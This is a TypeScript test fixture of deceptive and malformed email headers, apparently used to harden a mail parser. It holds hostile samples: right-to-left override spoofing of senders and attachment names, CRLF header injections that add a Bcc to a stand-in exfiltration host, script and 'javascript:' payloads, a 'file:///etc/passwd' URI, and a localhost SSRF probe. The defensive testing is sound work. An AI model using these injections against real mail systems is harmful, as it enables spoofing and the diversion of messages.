import type { Trap } from "./trap.ts"

const RLO = "\u202e"

/** Headers that deceive, or break a parser. */
export const HEADER_TRAPS: Trap[] = [
  {
    subject: `Facture ${RLO}fdp.exe`,
    text: "Votre facture est jointe.",
    headers: {
      From: [
        `"${RLO}elpmaxe.emart@tcatnoc" <a@exfil.example>`,
        `"Trame${RLO}" <b@exfil.example>`,
        `"\u2066Trame\u2069 <contact@trame.example>" <c@exfil.example>`,
        `"support@trame.example" <d@exfil.example>`,
      ],
    },
  },
  {
    subject: "Réponse – {brand}",
    text: "À qui répondez-vous vraiment ?",
    headers: {
      "Reply-To": [
        "vol@exfil.example",
        "a@exfil.example, b@exfil.example",
        '"Lou\\" <x>" <vol@exfil.example>',
        "Groupe : a@exfil.example, b@exfil.example;",
      ],
    },
  },
  {
    subject: "Partenariat {brand}",
    text: "Le nom de l'expéditeur cherche à ajouter un en-tête.",
    headers: {
      From: [
        `=?UTF-8?B?${Buffer.from("Camille\r\nBcc: vol@exfil.example").toString("base64")}?= <camille@exfil.example>`,
        "=?UTF-8?Q?Camille=0D=0ABcc=3A_vol=40exfil.example?= <camille@exfil.example>",
        `"Camille\\r\\nBcc: vol@exfil.example" <camille@exfil.example>`,
        "=?UTF-8?Q?Camille=00=07=1B[31m?= <camille@exfil.example>",
      ],
    },
  },
  {
    text: "L'objet cherche à ajouter un en-tête.",
    headers: {
      Subject: [
        `=?UTF-8?B?${Buffer.from("Brief\r\nTo: vol@exfil.example\r\n\r\nCorps").toString("base64")}?=`,
        "=?UTF-8?Q?Brief=0AX-Trame-Send=3A_1?=",
        "=?UTF-8?Q?Brief=E2=80=A8suite?=",
        "=?UTF-8?Q?<script>alert(1)</script>?=",
      ],
    },
  },
  {
    text: "L'objet est mal codé.",
    headers: {
      Subject: [
        "=?UTF-8?B?4pyoIMOpdMOp",
        "=?inconnu-9?Q?Brief=E9?=",
        "=?UTF-8?Q?Brief=ZZ=?=",
        "=?UTF-8?B?w6k?= =?UTF-8?B?w6?= =?ISO-8859-1?Q?=E9t=E9?=",
      ],
    },
  },
  {
    subject: ["", " ", "\u200b\u200b", "Re: Re: Re: RE: Fwd: TR: Re:"],
    text: "Un message sans objet de {brand}.",
  },
  {
    subject: [
      `Brief ${"très ".repeat(400)}long`,
      `${"🎉".repeat(500)} {brand}`,
      `A${"\u0301".repeat(800)}`,
      "W".repeat(4000),
    ],
    text: "L'objet est trop long.",
  },
  {
    subject: "En-têtes de {brand}",
    text: "Il y a beaucoup d'en-têtes.",
    moreHeaders: [
      Array.from({ length: 300 }, (_, index) => [`X-Trace-${index}`, "0123456789".repeat(8)] as const),
      [["X-Long", "x".repeat(60_000)]],
      [["Received", "from a by b".repeat(900)]],
      Array.from({ length: 60 }, () => ["Received", "from mx.exfil.example by mx.gmail.example"] as const),
    ],
  },
  {
    subject: "Tous ensemble – {brand}",
    text: "Il y a beaucoup de destinataires.",
    headers: {
      To: [
        Array.from({ length: 400 }, (_, index) => `a${index}@exfil.example`).join(", "),
        "undisclosed-recipients:;",
        'pieges@gmail.example, <>, @, a@, "sans fin',
        "Équipe: a@exfil.example, b@exfil.example; c@exfil.example",
      ],
    },
  },
  {
    subject: "Date étrange – {brand}",
    text: "L'en-tête de date ne vaut rien.",
    headers: {
      Date: ["Thu, 01 Jan 1970 00:00:00 +0000", "Fri, 31 Dec 9999 23:59:59 +0000", "hier matin", ""],
    },
  },
  {
    subject: "Fil volé – {brand}",
    text: "Les références nomment d'autres mails.",
    headers: {
      References: [
        "<a@b> <c@d>".repeat(500),
        "<>",
        "pas une référence",
        "<a@trame.example>\r\n <b@trame.example>",
      ],
      "X-Trame-Send": "envoi-1",
    },
  },
  {
    subject: "Mail de {brand}",
    text: "L'expéditeur n'en est pas un.",
    headers: { From: ["", "personne", "<>", "a@exfil.example, b@exfil.example"] },
  },
  {
    subject: "Désabonnement – {brand}",
    html: "<p>Pour ne plus rien recevoir, cliquez.</p>",
    headers: {
      "List-Unsubscribe": [
        "<javascript:alert(1)>",
        "<http://127.0.0.1:22/>",
        "<mailto:a@exfil.example?bcc=b@exfil.example>",
        "<file:///etc/passwd>",
      ],
    },
  },
]
